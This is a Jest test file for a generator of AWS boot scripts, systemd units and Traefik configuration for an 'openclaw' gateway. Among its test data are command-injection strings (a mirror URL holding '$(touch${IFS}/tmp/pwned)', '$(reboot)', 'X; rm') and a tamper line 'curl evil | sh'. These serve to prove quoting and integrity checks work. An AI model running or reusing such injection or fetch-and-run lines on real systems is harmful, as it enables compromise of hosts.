import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { HOST_OPERATING_SYSTEMS } from "../../modules/settings/settings";
import { hostFiles, renderBootScript, renderUnits } from "../../modules/host";
import { APT_SOURCES_OVER_HTTPS, HOST_OS_PROFILES } from "../../modules/host/host-os";
import { gatewayCommand, gatewayEnvironment, openclawCommand, openclawConfigFile } from "../../modules/host/layout";
import { hostContract } from "../../modules/host/contract";
import { heredoc, shellAssign, shellQuote, shellWords } from "../../modules/host/shell";
import { shellHelpers, ssmAgentStep, WAITS, writeFileCommand } from "../../modules/host/steps";
import { watchdogTool } from "../../modules/host/tools";
import { traefikDynamicConfig, traefikStaticConfig } from "../../modules/host/traefik";
import { gatewayUnit, renderUnit, staleGatewayLockCleanup, traefikUnit, unitWord, watchdogTimer } from "../../modules/host/units";
import { memoryBudget } from "../../modules/host/memory";
import { renderUserData, USER_DATA_LIMIT_BYTES } from "../../modules/host/user-data";
import { TEST_EMAIL, testSettings } from "../helpers/settings";

const settings = testSettings();
const layout = hostContract(settings);

/** Runs a bash snippet and returns its stdout (bash is part of every machine this runs on). */
function bash(script: string, cwd?: string): { status: number | null; stdout: string; stderr: string } {
  const result = spawnSync("bash", ["-c", script], { encoding: "utf8", cwd });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

describe("rendered boot script", () => {
  /**
   * The files rendered from layout.ts's contract functions (gatewayEnvironment, gatewayCommand: owned
   * and proven against the real openclaw elsewhere) are replaced by markers (openclaw.json is not in the
   * boot script at all: openclaw-apply-config fetches it, modules/host/config-apply.ts),
   * so the snapshot pins the script itself; the next test pins those files to the functions.
   */
  const contractFiles = () => hostFiles(settings, layout).filter((f) =>
    [layout.adminTool, `/etc/systemd/system/${layout.gatewayUnit}`].includes(f.path));

  test("default settings (Amazon Linux 2023) render to the committed snapshot", () => {
    let script = renderBootScript(settings);
    for (const file of contractFiles()) script = script.replace(file.content, `<${file.path}: rendered from layout.ts>\n`);
    // The loader's pin changes with every byte of the host script (those files included): pinned by host-user-data.test.ts.
    script = script.replaceAll(renderUserData(settings).hostScriptSha256, "<sha256 of the host script>");
    expect(contractFiles()).toHaveLength(2);
    expect(script).toMatchSnapshot();
  });

  test("the files left out of the snapshot follow layout.ts's contract functions exactly", () => {
    const [admin, unit] = [layout.adminTool, `/etc/systemd/system/${layout.gatewayUnit}`]
      .map((p) => contractFiles().find((f) => f.path === p)!.content);
    // openclaw.json is the artifacts bucket's object, not a file of the boot script.
    expect(hostFiles(settings, layout).map((f) => f.path)).not.toContain(layout.configPath);
    expect(renderBootScript(settings)).not.toContain(openclawConfigFile(settings));
    for (const [name, value] of Object.entries(gatewayEnvironment(layout))) {
      expect(admin).toContain(` ${shellWords([`--setenv=${name}=${value}`])} `);
      expect(unit).toContain(`Environment=${unitWord(`${name}=${value}`)}\n`);
    }
    expect(admin).toContain(` -- ${shellWords(openclawCommand(layout, []))} "$@"\n`);
    expect(unit).toContain(`ExecStart=${gatewayCommand(layout).map(unitWord).join(" ")}\n`);
  });

  test("rendering is pure: the same settings give the same bytes", () => {
    expect(renderBootScript(testSettings())).toBe(renderBootScript(testSettings()));
    expect(renderUserData(testSettings()).base64).toBe(renderUserData(testSettings()).base64);
  });

  test.each(HOST_OPERATING_SYSTEMS)("%s: the user data is only the loader, a fifth of AWS's 16 KB limit at most", (hostOs) => {
    const { scriptBytes, gzipBytes, hostScript } = renderUserData(testSettings({ hostOs }));
    // Issue 12 took the whole boot script to 13.3 KB gzipped (81 % of the limit); issue 13 (item 6) moved every step
    // after the loader's into the host script, an object of the artifacts bucket: 2.1 KB (AL2023) / 2.5 KB (Debian) left.
    // The loader must stay small: what grows belongs in the host script.
    expect(gzipBytes).toBeLessThan(USER_DATA_LIMIT_BYTES * 0.2);
    expect(scriptBytes).toBeGreaterThan(gzipBytes);
    expect(Buffer.byteLength(hostScript)).toBeGreaterThan(5 * scriptBytes);
  });

  test("strict mode, the log, the error trap, no tracing, IMDS at its standard address", () => {
    const script = renderBootScript(settings);
    expect(script.startsWith("#!/bin/bash\n")).toBe(true);
    expect(script).toContain("set -euo pipefail\nset -o errtrace\n");
    expect(script).toContain(`exec > >(tee -a "$LOG") 2>&1`);
    expect(script).toContain("LOG='/var/log/openclaw-bootstrap.log'");
    expect(script).toContain("trap 'on_error $? $LINENO' ERR");
    expect(script).not.toMatch(/set -[a-z]*x|set -o xtrace/);
    expect(script).toContain("IMDS='http://169.254.169.254/latest'");
  });

  test("steps run in boot order", () => {
    const script = renderBootScript(settings);
    const order = ["instance metadata (IMDSv2)", "OS packages", "find the data volume", "wait for the data volume",
      "attach the data volume", "filesystem on the data volume", "mount the data volume", "associate the Elastic IP",
      "install Node.js", "install openclaw", "install Traefik", "service users", "directories and modes", "host tools",
      "secrets from SSM Parameter Store", "gateway configuration", "Traefik configuration", "systemd units",
      "start services", "wait for the gateway's /healthz", "launch complete", "done"];
    const positions = order.map((name) => script.search(new RegExp(`^step ["']${name.replace(/[()/.]/g, "\\$&")}`, "m")));
    expect(positions.every((p) => p >= 0)).toBe(true);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
  });

  test("downloads follow the settings: base URLs, the instance's architecture, optional pins", () => {
    const x86 = renderBootScript(testSettings({
      instanceType: "t3.small",
      downloads: { nodeBaseUrl: "https://mirror.example.org/node/", nodeSha256: "a".repeat(64) },
    }));
    expect(x86).toContain(`ensure_release Node.js "$NODE_VERSION" /opt/openclaw/runtime/node-v24.21.0-x86_64 /opt/openclaw/runtime/node-v24.21.0-linux-x64.tar.xz `
      + "https://mirror.example.org/node/v24.21.0/SHASUMS256.txt https://mirror.example.org/node/v24.21.0/node-v24.21.0-linux-x64.tar.xz "
      + `${"a".repeat(64)} -J --strip-components=1\n`);
    expect(x86).toContain("traefik_v3.7.9_linux_amd64.tar.gz");
    const arm = renderBootScript(settings);
    expect(arm).toContain("node-v24.21.0-linux-arm64.tar.xz");
    expect(arm).toContain("https://github.com/traefik/traefik/releases/download/v3.7.9/traefik_v3.7.9_linux_arm64.tar.gz");
    expect(arm).toContain("--registry https://registry.npmjs.org/ --no-fund");
  });

  test("a hostile-looking mirror URL stays one quoted word (never expanded by the shell)", () => {
    const url = "https://mirror.example.org/$(touch${IFS}/tmp/pwned)/node";
    const script = renderBootScript(testSettings({ downloads: { nodeBaseUrl: url } }));
    expect(script).toContain(` 'https://mirror.example.org/$(touch\${IFS}/tmp/pwned)/node/v24.21.0/SHASUMS256.txt' `);
  });

  test("every file the script writes travels in a quoted here-document, verbatim", () => {
    const script = renderBootScript(settings);
    for (const file of hostFiles(settings, layout)) {
      expect(script).toContain(`put_file ${shellQuote(file.path)} ${file.mode} ${file.owner} <<'OPENCLAW_EOF'\n${file.content}OPENCLAW_EOF\n`);
    }
  });

  test("no secret-bearing command: the token never appears on a command line, the env file is only read by tools (alerts off and on)", () => {
    for (const s of [settings, { ...settings, alerts: ["ops@clawops.dev"] }]) {
      const script = renderBootScript(s);
      expect(script).not.toMatch(/--value\b/);
      expect(script).toContain("--cli-input-json \"file://$1\"");
      expect(script).not.toMatch(/echo "?\$token/);
    }
  });
});

describe("shell quoting", () => {
  test.each([
    ["plain", "plain"],
    ["/opt/openclaw/state", "/opt/openclaw/state"],
    ["two words", "'two words'"],
    ["it's", "'it'\\''s'"],
    ["$(reboot)", "'$(reboot)'"],
    ["`id`", "'`id`'"],
    ["", "''"],
    ["a\nb", "'a\nb'"],
  ])("shellQuote(%j) → %s", (value, quoted) => {
    expect(shellQuote(value)).toBe(quoted);
  });

  test("quoted words come back unchanged through bash", () => {
    const values = ["two words", "it's", "$(reboot)", "`id`", "", "a\nb", "*", "~root", "\\n", "a'b\"c$d"];
    const result = bash(`printf '%s\\0' ${shellWords(values)}`);
    expect(result.stdout.split("\0").slice(0, -1)).toEqual(values);
  });

  test("shellAssign always quotes and refuses a bad variable name", () => {
    expect(shellAssign("ENVIRONMENT", "test")).toBe("ENVIRONMENT='test'");
    expect(shellAssign("X", "it's")).toBe("X='it'\\''s'");
    expect(bash(`${shellAssign("X", "a'b $c")}; printf %s "$X"`).stdout).toBe("a'b $c");
    expect(() => shellAssign("1X", "v")).toThrow(/not a shell variable name/);
    expect(() => shellAssign("X; rm", "v")).toThrow(/not a shell variable name/);
  });

  test("heredoc: verbatim body ending in a newline; refuses content holding its delimiter", () => {
    expect(heredoc("a $b `c`")).toBe("<<'OPENCLAW_EOF'\na $b `c`\nOPENCLAW_EOF");
    expect(bash(`cat ${heredoc("a $b `c`")}`).stdout).toBe("a $b `c`\n");
    expect(() => heredoc("x\nOPENCLAW_EOF\ny")).toThrow(/delimiter/);
  });
});

describe("idempotency helpers (the script's own bash, run here)", () => {
  let dir: string;
  beforeEach(() => { dir = fs.mkdtempSync(path.join(os.tmpdir(), "boot-helpers-")); });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
  const owner = () => bash("printf '%s:%s' \"$(id -un)\" \"$(id -gn)\"").stdout;
  const sha256File = (file: string) => createHash("sha256").update(fs.readFileSync(file)).digest("hex");
  const run = (body: string) => bash(`set -euo pipefail\nlog() { echo "LOG $*"; }\n${shellHelpers()}\n${body}`, dir);

  test("put_file writes only when the content differs, reports it, and sets the mode", () => {
    const file = path.join(dir, "config");
    const first = run(`put_file ${file} 640 ${owner()} <<<"one"; echo "changed=$FILE_CHANGED"`);
    expect(first.stdout).toContain(`LOG wrote ${file}`);
    expect(first.stdout).toContain("changed=1");
    expect((fs.statSync(file).mode & 0o777).toString(8)).toBe("640");
    fs.utimesSync(file, new Date(1_000_000_000_000), new Date(1_000_000_000_000));
    const dirMtime = fs.statSync(dir).mtimeMs;
    const second = run(`put_file ${file} 640 ${owner()} <<<"one"; echo "changed=$FILE_CHANGED"`);
    expect(second.stdout).toBe("changed=0\n");
    expect(fs.statSync(file).mtimeMs).toBe(1_000_000_000_000);
    expect(fs.statSync(dir).mtimeMs).toBe(dirMtime); // no temp file was made beside it
    const third = run(`put_file ${file} 640 ${owner()} <<<"two"; echo "changed=$FILE_CHANGED"`);
    expect(third.stdout).toContain("changed=1");
    expect(fs.readFileSync(file, "utf8")).toBe("two\n");
    expect(fs.readdirSync(dir)).toEqual(["config"]);
  });

  test("ensure_mode fixes a wrong mode and leaves a right one alone", () => {
    const file = path.join(dir, "f");
    fs.writeFileSync(file, "x", { mode: 0o644 });
    run(`ensure_mode ${file} 600 ${owner()}`);
    expect((fs.statSync(file).mode & 0o777).toString(8)).toBe("600");
    const ctime = fs.statSync(file).ctimeMs;
    run(`ensure_mode ${file} 600 ${owner()}`);
    expect(fs.statSync(file).ctimeMs).toBe(ctime);
  });

  test("retry stops at the bound and returns failure; succeeds as soon as the command does", () => {
    const failing = run(`sleep() { :; }; calls=0; count() { calls=$((calls+1)); return 1; }; retry 4 1 count || echo "failed after $calls"`);
    expect(failing.stdout).toContain("failed after 4");
    const later = run(`sleep() { :; }; calls=0; third() { calls=$((calls+1)); [ "$calls" -ge 3 ]; }; retry 9 1 third && echo "ok after $calls"`);
    expect(later.stdout).toContain("ok after 3");
  });

  test("verify accepts the listed sha256 (and a matching pin), refuses a mismatch or a missing line", () => {
    fs.writeFileSync(path.join(dir, "a.tar.xz"), "archive");
    const sum = bash(`sha256sum ${dir}/a.tar.xz | cut -d ' ' -f 1`).stdout.trim();
    fs.writeFileSync(path.join(dir, "SUMS"), `${"0".repeat(64)}  other.tar.xz\n${sum}  a.tar.xz\n`);
    expect(run(`verify ${dir}/a.tar.xz ${dir}/SUMS ''`).status).toBe(0);
    expect(run(`verify ${dir}/a.tar.xz ${dir}/SUMS ${sum}`).status).toBe(0);
    expect(run(`verify ${dir}/a.tar.xz ${dir}/SUMS ${"f".repeat(64)}`).status).not.toBe(0);
    fs.writeFileSync(path.join(dir, "SUMS"), `${"0".repeat(64)}  a.tar.xz\n`);
    expect(run(`verify ${dir}/a.tar.xz ${dir}/SUMS ''`).status).not.toBe(0);
    fs.writeFileSync(path.join(dir, "SUMS"), `${sum}  b.tar.xz\n`);
    expect(run(`verify ${dir}/a.tar.xz ${dir}/SUMS ''`).status).not.toBe(0);
  });

  test("ensure_release (Node.js and Traefik): verified archive kept and unpacked whole into DIR; a bad sum leaves no DIR", () => {
    fs.mkdirSync(path.join(dir, "src"));
    fs.writeFileSync(path.join(dir, "src", "traefik"), "#!/bin/sh\n", { mode: 0o755 });
    expect(bash(`tar -czf ${dir}/t.tar.gz -C ${dir}/src traefik`).status).toBe(0);
    const sum = bash(`sha256sum ${dir}/t.tar.gz | cut -d ' ' -f 1`).stdout.trim();
    fs.writeFileSync(path.join(dir, "sums"), `${sum}  t.tar.gz\n`);
    const install = (pin: string) => run(`ensure_release Traefik 3.6.2 ${dir}/out ${dir}/runtime/t.tar.gz file://${dir}/sums file://${dir}/t.tar.gz '${pin}' -z traefik`);
    const bad = install("f".repeat(64));
    expect(bad.status).not.toBe(0);
    expect(fs.existsSync(path.join(dir, "out"))).toBe(false);
    expect(fs.existsSync(path.join(dir, "runtime", "t.tar.gz"))).toBe(false);
    const good = install(sum);
    expect(good.stdout).toContain("LOG sha256 of t.tar.gz verified");
    expect(good.stdout).toContain("LOG installed Traefik 3.6.2");
    expect(fs.readdirSync(path.join(dir, "out"))).toEqual(["traefik"]);
    expect(fs.existsSync(path.join(dir, "out.partial"))).toBe(false);
    expect(fs.readFileSync(path.join(dir, "runtime", "t.tar.gz"))).toEqual(fs.readFileSync(path.join(dir, "t.tar.gz")));
  });

  /** Issue 13, item 6: a runtime on the volume is trusted by nothing but its pinned archive, at every boot. */
  describe("ensure_release re-verifies what is on the volume at every run", () => {
    let sum: string;
    const install = (pin = sum) => run(`ensure_release Node.js 24.0.0 ${dir}/node ${dir}/node-v24.0.0-linux-x64.tar.xz file://${dir}/www/SHASUMS256.txt file://${dir}/www/node-v24.0.0-linux-x64.tar.xz '${pin}' -J --strip-components=1`);
    beforeEach(() => {
      fs.mkdirSync(path.join(dir, "src", "node-v24.0.0-linux-x64", "bin"), { recursive: true });
      fs.writeFileSync(path.join(dir, "src", "node-v24.0.0-linux-x64", "bin", "node"), "#!/bin/sh\necho v24.0.0\n", { mode: 0o755 });
      fs.writeFileSync(path.join(dir, "src", "node-v24.0.0-linux-x64", "README.md"), "node\n");
      fs.mkdirSync(path.join(dir, "www"));
      expect(bash(`tar -cJf ${dir}/www/node-v24.0.0-linux-x64.tar.xz -C ${dir}/src node-v24.0.0-linux-x64`).status).toBe(0);
      sum = bash(`sha256sum ${dir}/www/node-v24.0.0-linux-x64.tar.xz | cut -d ' ' -f 1`).stdout.trim();
      fs.writeFileSync(path.join(dir, "www", "SHASUMS256.txt"), `${sum}  node-v24.0.0-linux-x64.tar.xz\n`);
      expect(install().stdout).toContain("LOG installed Node.js 24.0.0");
      fs.rmSync(path.join(dir, "www", "node-v24.0.0-linux-x64.tar.xz")); // a re-run must need no download
    });

    test("an untouched install is verified and left alone (no download, nothing rewritten)", () => {
      const mtime = fs.statSync(path.join(dir, "node", "bin", "node")).mtimeMs;
      const again = install();
      expect(again.status).toBe(0);
      expect(again.stdout).toContain("LOG Node.js 24.0.0 on the volume matches its verified archive");
      expect(again.stdout).not.toContain("REINSTALLING");
      expect(fs.statSync(path.join(dir, "node", "bin", "node")).mtimeMs).toBe(mtime);
    });

    test.each([
      ["a changed binary", (d: string) => fs.appendFileSync(path.join(d, "node", "bin", "node"), "curl evil | sh\n")],
      ["a changed mode", (d: string) => fs.chmodSync(path.join(d, "node", "README.md"), 0o666)],
      ["an extra file", (d: string) => fs.writeFileSync(path.join(d, "node", "bin", "npx-evil"), "x")],
      ["a removed file", (d: string) => fs.rmSync(path.join(d, "node", "README.md"))],
      ["a file replaced by a link", (d: string) => { fs.rmSync(path.join(d, "node", "bin", "node")); fs.symlinkSync("/bin/sh", path.join(d, "node", "bin", "node")); }],
    ])("%s in the tree is found and unpacked again from the verified archive", (_what, tamper) => {
      tamper(dir);
      const again = install();
      expect(again.status).toBe(0);
      expect(again.stdout).toContain("LOG REINSTALLING Node.js 24.0.0 from its verified archive: the tree on the volume changed");
      expect(fs.readFileSync(path.join(dir, "node", "bin", "node"), "utf8")).toBe("#!/bin/sh\necho v24.0.0\n");
      expect(fs.readdirSync(path.join(dir, "node")).sort()).toEqual(["README.md", "bin"]);
      expect(fs.readdirSync(path.join(dir, "node", "bin"))).toEqual(["node"]);
      expect(install().stdout).toContain("matches its verified archive");
    });

    test("a changed archive on the volume is downloaded and verified again; without a pin, the published checksums are fetched again", () => {
      fs.copyFileSync(path.join(dir, "node-v24.0.0-linux-x64.tar.xz"), path.join(dir, "www", "node-v24.0.0-linux-x64.tar.xz"));
      fs.appendFileSync(path.join(dir, "node-v24.0.0-linux-x64.tar.xz"), "x");
      const pinned = install();
      expect(pinned.stdout).toContain(`LOG sha256 of node-v24.0.0-linux-x64.tar.xz is`);
      expect(pinned.stdout).toContain("LOG REINSTALLING Node.js 24.0.0: its archive on the volume fails the check");
      expect(pinned.stdout).toContain("LOG installed Node.js 24.0.0");
      expect(sha256File(path.join(dir, "node-v24.0.0-linux-x64.tar.xz"))).toBe(sum);
      fs.appendFileSync(path.join(dir, "node-v24.0.0-linux-x64.tar.xz"), "x");
      const unpinned = install("");
      expect(unpinned.stdout).toContain("the published checksums say");
      expect(unpinned.stdout).toContain("LOG REINSTALLING Node.js 24.0.0: its archive on the volume fails the check");
      expect(install("").stdout).toContain("matches its verified archive");
      fs.rmSync(path.join(dir, "www", "SHASUMS256.txt"));
      expect(install("").status).not.toBe(0); // no pin, no checksums: nothing vouches for it, the boot stops
    });
  });

  test("writeFileCommand raises the file's restart flags only on a change", () => {
    const file = { path: path.join(dir, "unit"), mode: "644", owner: owner(), content: "[Unit]\n", flags: ["A_RESTART", "B_CHANGED"] };
    const body = `A_RESTART=0 B_CHANGED=0\n${writeFileCommand(file)}\necho "$A_RESTART $B_CHANGED"`;
    expect(run(body).stdout.trim().split("\n").pop()).toBe("1 1");
    expect(run(body).stdout.trim()).toBe("0 0");
  });
});

describe("gateway unit hardening keeps what openclaw needs", () => {
  test("no RestrictSUIDSGID on the gateway and Traefik: its seccomp filter breaks openat2(), which openclaw's gateway lock needs", () => {
    const units = renderUnits(testSettings(), layout);
    for (const name of [layout.gatewayUnit, layout.traefikUnit]) {
      expect(units[name]).not.toContain("RestrictSUIDSGID");
      expect(units[name]).toContain("NoNewPrivileges=yes");
    }
  });

  test("the gateway keeps what V8 needs: no MemoryDenyWriteExecute (its JIT), memory protection keys allowed, EPERM not SIGSYS", () => {
    const unit = renderUnits(testSettings(), layout)[layout.gatewayUnit];
    expect(unit).not.toContain("MemoryDenyWriteExecute");
    expect(unit).toContain("\nSystemCallFilter=@system-service @pkey\nSystemCallErrorNumber=EPERM\n");
    expect(unit).not.toContain("ProcSubset");
  });
});

describe("OS profiles: the only place the host OSes differ", () => {
  test("Amazon Linux uses dnf and ships the AWS CLI; Debian uses apt-get (after an index refresh) and installs awscli", () => {
    expect(HOST_OS_PROFILES.al2023.installPackages).toMatch(/^dnf install/);
    expect(HOST_OS_PROFILES.al2023.refreshPackageIndex).toBeUndefined();
    expect(HOST_OS_PROFILES.al2023.requiredCommands.aws).toBeUndefined();
    expect(HOST_OS_PROFILES.debian12.installPackages).toMatch(/apt-get install -y/);
    expect(HOST_OS_PROFILES.debian12.refreshPackageIndex).toMatch(/apt-get update/);
    expect(HOST_OS_PROFILES.debian12.requiredCommands.aws).toBe("awscli");
  });

  test("both OSes provide every command the script and the tools call", () => {
    for (const hostOs of HOST_OPERATING_SYSTEMS) {
      const commands = Object.keys(HOST_OS_PROFILES[hostOs].requiredCommands);
      expect(commands).toEqual(expect.arrayContaining(["curl", "tar", "xz", "sha256sum", "jq", "blkid", "mkfs.ext4", "mountpoint", "setpriv", "useradd"]));
    }
  });

  test("packages are installed only when their command is missing", () => {
    const script = renderBootScript(testSettings({ hostOs: "debian12" }));
    expect(script).toContain("command -v jq >/dev/null 2>&1 || MISSING+=(jq)");
    expect(script).toContain('if [ "${#MISSING[@]}" -gt 0 ]; then');
    expect(script).toContain('DEBIAN_FRONTEND=noninteractive apt-get install -y -q "${MISSING[@]}"');
  });

  test("the two renderings differ only in lines that come from the profile", () => {
    const al = renderBootScript(testSettings({ hostOs: "al2023" })).split("\n");
    // The SSM agent step exists only for a profile that declares the agent missing from its image.
    const agentStep = ssmAgentStep(testSettings({ hostOs: "debian12" }));
    expect(ssmAgentStep(testSettings({ hostOs: "al2023" }))).toBe("");
    expect(agentStep).toContain("amazon-ssm-agent.deb");
    // So are Debian's package sources moved to HTTPS (the profile's packageSourcesOverHttps).
    expect(HOST_OS_PROFILES.debian12.packageSourcesOverHttps).toBe(APT_SOURCES_OVER_HTTPS);
    const deb = renderBootScript(testSettings({ hostOs: "debian12" })).replace(`${agentStep}\n`, "").replace(`${APT_SOURCES_OVER_HTTPS}\n`, "").split("\n");
    const fromProfile = /^# openclaw-aws (boot|host) script|^HOST_SCRIPT_SHA256=|^command -v |apt-get|dnf install|--shell \/(usr\/)?sbin\/nologin/;
    const onlyAl = al.filter((line) => !deb.includes(line));
    const onlyDeb = deb.filter((line) => !al.includes(line));
    expect(onlyAl.length + onlyDeb.length).toBeGreaterThan(0);
    expect([...onlyAl, ...onlyDeb].filter((line) => !fromProfile.test(line))).toEqual([]);
  });
});

describe("Traefik configuration objects", () => {
  test("static: websecure on :443, TLS-ALPN-01 resolver with the ACME e-mail, storage on the data volume", () => {
    const config = traefikStaticConfig(settings, layout) as any;
    expect(config.entryPoints).toEqual({ websecure: { address: ":443", http: { tls: { certResolver: "letsencrypt" } } } });
    expect(config.certificatesResolvers.letsencrypt.acme).toEqual({
      email: TEST_EMAIL, caServer: "https://acme-v02.api.letsencrypt.org/directory", storage: layout.acmeStorage,
      certificatesDuration: 2160, tlsChallenge: {} });
    expect(config.providers.file.filename).toBe(layout.traefikDynamicConfig);
    expect(layout.acmeStorage.startsWith(`${layout.dataMount}/`)).toBe(true);
  });

  test("dynamic: Host(`domain`) → the gateway on loopback, health-checked on /healthz (never /readyz)", () => {
    const config = traefikDynamicConfig(testSettings({ domainName: "claw.example.net" }), layout) as any;
    expect(config.http.routers.openclaw).toEqual({
      rule: "Host(`claw.example.net`)", entryPoints: ["websecure"], service: "openclaw", tls: { certResolver: "letsencrypt" } });
    expect(config.http.services.openclaw.loadBalancer.servers).toEqual([{ url: "http://127.0.0.1:18789" }]);
    expect(config.http.services.openclaw.loadBalancer.healthCheck.path).toBe("/healthz");
    expect(JSON.stringify(config)).not.toContain("readyz");
  });
});

describe("systemd units", () => {
  test("renderUnit: sections in order, lists repeat the key, booleans as yes/no, undefined left out", () => {
    expect(renderUnit({ Unit: { Description: "x", After: ["a", "b"], Skip: undefined }, Service: { NoNewPrivileges: true, PrivateTmp: false, RestartSec: 5 } }))
      .toBe("[Unit]\nDescription=x\nAfter=a\nAfter=b\n\n[Service]\nNoNewPrivileges=yes\nPrivateTmp=no\nRestartSec=5\n");
    expect(() => renderUnit({ Service: { ExecStart: "a\nb" } })).toThrow(/one line/);
  });

  test("unitWord escapes systemd specifiers and variables and quotes spaces", () => {
    expect(unitWord("/opt/x")).toBe("/opt/x");
    expect(unitWord("100%")).toBe('"100%%"');
    expect(unitWord("$HOME")).toBe('"$$HOME"');
    expect(unitWord('a "b"')).toBe('"a \\"b\\""');
  });

  test("gateway unit: the layout's user, env, command; restart always but not on config errors (78); mount required", () => {
    const unit = gatewayUnit(layout, memoryBudget(settings.instanceType)) as any;
    expect(unit.Service).toMatchObject({
      User: "openclaw", Group: "openclaw", LoadCredential: "gateway-secrets:/run/openclaw/gateway-secrets.json",
      ExecStart: gatewayCommand(layout).join(" "), Restart: "always",
      ProtectSystem: "strict", ReadWritePaths: [layout.stateDir, "/opt/openclaw/cache/gateway-compile"], NoNewPrivileges: true,
    });
    expect(unit.Service.Environment).toEqual([...Object.entries(gatewayEnvironment(layout)).map(([k, v]) => `${k}=${v}`), "NODE_OPTIONS=--max-old-space-size=960", "NODE_COMPILE_CACHE=/opt/openclaw/cache/gateway-compile"]);
    // Node's compile cache outlives a start (PrivateTmp= would empty openclaw's default $TMPDIR one every time) and the
    // host: it is on the data volume, so a replacement's first start reuses it.
    expect(unit.Service).toMatchObject({ PrivateTmp: true });
    expect(unit.Service.CacheDirectory).toBeUndefined();
    // Stale gateway locks on the volume (another boot's pid) are removed before every start, never anything else.
    expect(unit.Service.ExecStartPre).toBe('-/usr/bin/find /opt/openclaw/state/tmp -maxdepth 2 -type f -name "gateway.*.lock" -delete');
    // No secret in the gateway's environment: its children inherit that and /proc/<pid>/environ shows it.
    expect(unit.Service.EnvironmentFile).toBeUndefined();
    expect(unit.Service).toMatchObject({ MemoryHigh: "1408M", MemoryMax: "1664M", OOMPolicy: "stop" });
    expect(unit.Unit).toMatchObject({ RequiresMountsFor: "/opt/openclaw", Requires: "openclaw-secrets.service" });
  });

  test("the stale-lock cleanup (real find) removes openclaw's gateway lock files under <state>/tmp and nothing else", () => {
    const state = fs.mkdtempSync(path.join(os.tmpdir(), "stale-lock-"));
    try {
      const lockDir = path.join(state, "tmp", "openclaw-997");
      fs.mkdirSync(lockDir, { recursive: true });
      for (const f of ["gateway.state.lock", "gateway.0123abcd.lock", "other.lock", "gateway.state.lock.json"]) fs.writeFileSync(path.join(lockDir, f), "{}");
      fs.writeFileSync(path.join(state, "gateway.state.lock"), "{}"); // not under tmp/: not openclaw's lock directory
      const [command, ...args] = staleGatewayLockCleanup({ stateDir: state });
      expect(spawnSync(command, args).status).toBe(0);
      expect(fs.readdirSync(lockDir).sort()).toEqual(["gateway.state.lock.json", "other.lock"]);
      expect(fs.existsSync(path.join(state, "gateway.state.lock"))).toBe(true);
    } finally {
      fs.rmSync(state, { recursive: true, force: true });
    }
  });

  test("Traefik unit: its own user, allowed to bind 443 and nothing more", () => {
    const unit = traefikUnit(settings, layout) as any;
    expect(unit.Service).toMatchObject({
      User: "traefik", AmbientCapabilities: "CAP_NET_BIND_SERVICE", CapabilityBoundingSet: "CAP_NET_BIND_SERVICE",
      ExecStart: `${layout.traefikBin} --configFile=${layout.traefikStaticConfig}`, ReadWritePaths: "/opt/openclaw/traefik",
    });
    expect(unit.Service.Environment).toBeUndefined();
  });

  test("Traefik unit with a hosted zone: lego's Route53 variables (AWS_REGION, AWS_HOSTED_ZONE_ID), nothing else", () => {
    const unit = traefikUnit(testSettings({ hostedZoneId: "Z0123456789ABCDEFGHIJ", region: "eu-west-1" }), layout) as any;
    expect(unit.Service.Environment).toEqual(["AWS_REGION=eu-west-1", "AWS_HOSTED_ZONE_ID=Z0123456789ABCDEFGHIJ"]);
  });

  test("watchdog timer follows watchdog.intervalSeconds; the watchdog tool follows failuresBeforeReplacement and /healthz", () => {
    const s = testSettings({ watchdog: { intervalSeconds: 45, failuresBeforeReplacement: 7 } });
    expect((watchdogTimer(s, layout) as any).Timer).toMatchObject({ OnActiveSec: "45s", OnUnitActiveSec: "45s", Unit: "openclaw-watchdog.service" });
    const tool = watchdogTool(s, layout);
    expect(tool).toContain("FAILURES_BEFORE_REPLACEMENT='7'");
    // The start window is the boot's own /healthz wait: within it the boot decides (CONTINUE or ABANDON).
    expect(tool).toContain(`START_GRACE_SECONDS='${WAITS.health.attempts * WAITS.health.delay}'`);
    expect(tool).toContain(`curl -fsS --max-time 10 "$HEALTH_URL"`);
    expect(tool).toContain("# A stall longer than 280 s is reported");
    expect(tool).toContain("HEALTH_URL='http://127.0.0.1:18789/healthz'");
    expect(tool).toContain("aws autoscaling set-instance-health --cli-connect-timeout 10 --cli-read-timeout 30 --instance-id \"$instance_id\" --health-status Unhealthy --no-should-respect-grace-period");
    expect(tool.replace(/^#.*$/gm, "")).not.toContain("readyz");
  });

  test("the default watchdog checks every 15 s and reports after 5 failures in a row", () => {
    expect((watchdogTimer(settings, layout) as any).Timer).toMatchObject({ OnActiveSec: "15s", OnUnitActiveSec: "15s" });
    expect(watchdogTool(settings, layout)).toContain("FAILURES_BEFORE_REPLACEMENT='5'");
  });

  test("every unit is rendered and written by the boot script", () => {
    const units = renderUnits(settings, layout);
    expect(Object.keys(units).sort()).toEqual(
      ["openclaw-apply-config.service", "openclaw-apply-config.timer", "openclaw-backup.service", "openclaw-backup.timer",
        "openclaw-cert-guard.service", "openclaw-cert-guard.timer", "openclaw-gateway.service", "openclaw-imds-firewall.service", "openclaw-secrets.service", "openclaw-watchdog.service",
        "openclaw-watchdog.timer", "traefik.service"]);
    const written = hostFiles(settings, layout);
    for (const [name, content] of Object.entries(units)) {
      expect(written.filter((f) => f.path === `${layout.unitDir}/${name}`).map((f) => f.content)).toEqual([content]);
    }
  });
});
